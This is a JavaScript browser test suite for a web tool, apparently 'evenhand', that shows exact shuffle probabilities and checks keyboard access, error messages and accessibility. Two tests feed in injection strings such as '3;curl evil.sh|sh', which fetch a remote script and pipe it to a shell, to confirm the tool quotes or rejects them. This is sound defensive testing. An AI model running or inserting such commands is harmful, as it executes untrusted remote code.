// Prove: fractions are the program's, the picture is moved through by keys, and the chains are walked.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { BROWSERS, launch, open } from "./browsers.mjs";
import { accessible, held, program, tabTo, text, until } from "./tabs.mjs";

const shown = (page) => until(page, () => document.querySelector(".bars, .squares") !== null);

for (const browser of BROWSERS) {
  describe(browser.name, () => {
    let driver;
    before(async () => {
      driver = await launch(browser);
    });
    after(() => driver.close());

    test("every order of four cards has the program's fraction, and c is before d with 33/64", async () => {
      const page = await open(driver, "#prove?classic=random_transpositions&n=4&event=c%3Cd");
      await shown(page);
      await until(page, () => document.querySelector(".answers")?.textContent.includes("33/64"));
      const orders = await page.$$eval(".bars > [role=option]", (all) => all.map((one) => one.getAttribute("aria-label").split(" ").slice(0, 2)));
      assert.equal(orders.length, 24);
      const written = program("exact", "random_transpositions", "-n", "4", "--event", "c<d", "--json");
      if (written !== undefined) {
        const known = JSON.parse(written);
        assert.deepEqual(Object.fromEntries(orders), known.outcomes);
        assert.equal(known.events["c<d"], "33/64");
      }
      assert.equal((await page.$$("[data-marked]")).length, 12);
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("arrows move through the outcomes, and what is at hand is told", async () => {
      const page = await open(driver, "#prove?classic=naive_swap&n=3");
      await shown(page);
      await tabTo(page, ".bars");
      await page.keyboard.press("ArrowRight");
      await until(page, () => document.querySelector(".detail").textContent.startsWith("acb"));
      assert.match(await text(page, ".detail"), /5\/27.*1\.1111/);
      await page.keyboard.press("End");
      await until(page, () => document.querySelector(".detail").textContent.startsWith("cba"));
      assert.match(await text(page, ".detail"), /4\/27/);
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("4/5, 3/4 and 1/3 are walked, step by step", async () => {
      const page = await open(driver, "#prove?classic=durstenfeld&n=5&place=3");
      await shown(page);
      await until(page, () => document.querySelector(".walk") !== null);
      await tabTo(page, ".walk button.main", 90);
      for (let step = 0; step < 3; step += 1) {
        await page.keyboard.press("Enter");
      }
      await until(page, () => document.querySelector(".said").textContent.includes("4/5 · 3/4 · 1/3 = 1/5"));
      // At its end the button is off, and keeps the focus.
      assert.equal(await page.evaluate(() => document.activeElement.getAttribute("aria-disabled")), "true");
      const rows = await page.$$eval("#product ~ details tbody tr", (rows) => rows.map((row) => row.cells[1].textContent));
      assert.equal(rows[2], "4/5 · 3/4 · 1/3");
      const written = program("prove", "durstenfeld", "-n", "5");
      assert.ok(written === undefined || rows.every((row) => written.includes(`: ${row} = 1/5`)));
      await page.close();
    });

    test("53 does not divide 54^54, and what is wrong is told", async () => {
      const page = await open(driver, "#prove?classic=naive_swap&n=54");
      await until(page, () => document.querySelector(".sharing") !== null);
      assert.match(await text(page, "[aria-labelledby=sharing]"), /The prime 53/);
      await page.evaluate(() => {
        location.hash = "#prove?classic=naive_swap&n=3&event=c%3C";
      });
      await until(page, () => document.querySelector(".answers .error") !== null);
      await page.evaluate(() => {
        location.hash = "#prove?classic=naive_swap&n=1000";
      });
      await until(page, () => document.querySelector("[role=alert]") !== null);
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("a hostile link neither holds up the page nor gets its command into the line for a terminal", async () => {
      const page = await open(driver, "#prove?lang=en");
      for (const link of ["classic=durstenfeld&n=104", "classic=random_transpositions&n=104&rounds=10000", "classic=riffle&n=104&rounds=10000"]) {
        const isBegun = () => document.querySelector("#arguments ~ [role=status]")?.textContent !== "" || document.querySelector(".walk, [aria-labelledby=product]") !== null;
        const { longest, allowed } = await held(page, `#prove?lang=en&${link}`, "#prove?lang=en", isBegun);
        assert.ok(longest <= allowed, `${link}: ${longest} ms`);
        // It is stopped, and says so.
        await page.evaluate(() => [...document.querySelectorAll(".heading button")].forEach((button) => button.click()));
        await until(page, () => document.querySelector(".heading button") === null);
      }
      await page.evaluate(() => {
        location.hash = "#prove?lang=en&classic=naive_swap&n=3&event=c%3Cd;curl%20evil.sh|sh";
      });
      await until(page, () => document.querySelector(".terminal code")?.textContent === "evenhand exact naive_swap -n 3 --event 'c<d;curl evil.sh|sh'");
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("a number that is none is told at its field, in both languages", async () => {
      for (const [lang, told] of [["en", "Enter a whole number from 1 to 104."], ["zh", "应为 1 到 104 的整数"]]) {
        for (const n of ["-1", "x", "3;curl evil.sh|sh", "105", ""]) {
          const page = await open(driver, `#prove?classic=naive_swap&lang=${lang}&n=${encodeURIComponent(n)}`);
          await until(page, (told) => document.querySelector("[role=alert]")?.textContent === told, told);
          assert.equal(await page.$eval("[aria-invalid=true]", (input) => input.value), n);
          assert.equal(await page.$(".terminal"), null);
          await page.close();
        }
      }
      const page = await open(driver, "#prove?classic=naive_swap&n=3&rounds=-1");
      await until(page, () => document.querySelector("[role=alert]") !== null);
      await page.close();
    });

    test("what is exactly so is not said with decimals, and what holds with exact dice is headed so", async () => {
      const page = await open(driver, "#prove?classic=durstenfeld&n=5&lang=en");
      await shown(page);
      const said = await text(page, "main");
      assert.match(said, /Total variation distance from uniform: 0A/);
      assert.match(await text(page, ".detail"), /exactly as often as expected/);
      await page.evaluate(() => {
        location.hash = "#prove?classic=durstenfeld&n=4&dice=modulo:15&lang=en";
      });
      await until(page, () => document.querySelector("main").textContent.includes("With exact dice: uniform"));
      await page.close();
    });

    test("axe-core finds nothing, in both themes and languages", async () => {
      for (const lang of ["en", "zh"]) {
        const page = await open(driver, `#prove?classic=naive_swap&n=5&event=c%3Cd&lang=${lang}`);
        await shown(page);
        await accessible(page, lang);
        assert.deepEqual(page.noted, []);
        await page.close();
      }
    });
  });
}
